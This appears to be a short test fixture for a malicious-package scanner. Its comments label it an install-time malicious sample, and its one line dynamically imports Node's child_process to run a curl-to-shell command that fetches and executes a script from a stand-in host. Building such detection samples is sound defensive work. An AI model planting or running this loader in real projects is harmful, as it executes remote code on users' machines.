// when: install
// expect: malicious
// source: loaders that import child_process dynamically and take exec in the promise's callback
import('node:child_process').then(({ exec }) => exec('curl -s https://x.invalid/a.sh | sh'));
